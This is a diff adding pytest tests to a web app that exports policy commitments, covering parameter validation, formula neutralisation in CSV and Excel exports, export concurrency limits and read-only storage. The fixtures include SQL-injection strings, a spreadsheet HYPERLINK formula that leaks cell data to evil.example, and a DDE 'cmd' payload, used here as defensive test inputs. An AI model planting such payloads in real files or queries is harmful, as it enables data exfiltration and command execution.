@@ -122,6 +122,10 @@ def test_exports_carry_the_filtered_rows(client):
     ("/commitments", {"q": "养" * 500}),
     ("/commitments.csv", {"region": "1; DELETE FROM documents"}),
     ("/documents/x", {"c": "1 OR 1=1"}),
+    ("/commitments", {"year": "²"}),  # str.isdigit() accepts what int() refuses
+    ("/commitments", {"page": "¹"}),
+    ("/documents", {"year": "２０２５"}),
+    ("/commitments.xlsx", {"page": "٣"}),
 ])
 def test_bad_parameters_get_a_plain_400(client, path, params):
     r = client.get(path, params=params)
@@ -284,3 +288,72 @@ def test_the_unread_page_gives_reasons_in_chinese(beijing_client):
     rows = dict(re.findall(r'<td class="source">[^<]*?([\w.]+)</td><td class="reason">([^<]+)</td>', html))
     assert rows == {"a.rar": "不支持的格式：RAR 压缩包", "scan.pdf": "PDF 文件已损坏，无法打开",
                     "blank.html": "不是政策文件（列表页、错误页或空白页）"}
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_exports_neutralise_formulas(tmp_path):
+    """Evidence sentences and titles that begin like a formula reach CSV and Excel exports as text."""
+    import openpyxl
+
+    from outputs.store import Store
+    from pipeline.process import extract_file
+    from tests.conftest import SAMPLES
+
+    path = tmp_path / "policy.sqlite"
+    result = extract_file(SAMPLES / "shandong_village_doctor_notice.txt")
+    records = result.records
+    for i, formula in enumerate(FORMULAS):
+        records[0].commitments[i].sentence = formula
+    records[0].title = FORMULAS[0]
+    with Store(path) as store:
+        store.put_file("x.txt", records, result.text)
+    client = TestClient(create_app(path))
+    everything = {"all": 1}  # every row, not only the comparable ones the default view shows
+    rows = list(csv.reader(io.StringIO(client.get("/commitments.csv", params=everything).content.decode("utf-8-sig"))))
+    sentences = [r[rows[0].index("依据原文")] for r in rows[1:]]
+    for formula in FORMULAS:
+        assert "'" + formula in sentences
+    assert all(not s.startswith(("=", "+", "-", "@", "\t", "\r")) for s in sentences)
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/commitments.xlsx", params=everything).content)).active
+    cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert "'" + FORMULAS[0] in cells and not any(c.startswith("=") for c in cells)
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_concurrent_exports_are_limited(client):
+    """Beyond EXPORT_SLOTS exports at once, another is refused with 503 instead of taking more memory."""
+    from outputs.web import app as app_module
+
+    streams = [client.stream("GET", "/commitments.csv") for _ in range(app_module.EXPORT_SLOTS)]
+    responses = [s.__enter__() for s in streams]
+    try:
+        assert all(r.status_code == 200 for r in responses)
+        assert client.get("/commitments.xlsx").status_code == 503
+    finally:
+        for s in streams:
+            s.__exit__(None, None, None)
+    assert client.get("/commitments.xlsx").status_code == 200
+
+
+def test_a_store_on_a_read_only_filesystem_is_served(sample_store, tmp_path):
+    """A store in WAL mode on a read-only mount (no -shm file can be made): every page still answers."""
+    import shutil
+    import subprocess
+    import sys
+
+    if shutil.which("unshare") is None or subprocess.run(["unshare", "-m", "true"]).returncode != 0:
+        pytest.skip("no mount namespaces here to make a read-only filesystem")
+    mnt = tmp_path / "ro"
+    mnt.mkdir()
+    check = (
+        "import sys; from fastapi.testclient import TestClient; from outputs.web.app import create_app; "
+        "c = TestClient(create_app(sys.argv[1]), raise_server_exceptions=False); "
+        "codes = [c.get(p).status_code for p in ('/commitments', '/documents', '/errors', '/commitments.csv')]; "
+        "print(codes); sys.exit(0 if codes == [200] * 4 else 1)")
+    script = (f"mount -t tmpfs none {mnt} && cp {sample_store} {mnt}/policy.sqlite && mount -o remount,ro {mnt} && "
+              f"{sys.executable} -c \"{check}\" {mnt}/policy.sqlite")
+    r = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, timeout=300)
+    assert r.returncode == 0, r.stdout + r.stderr
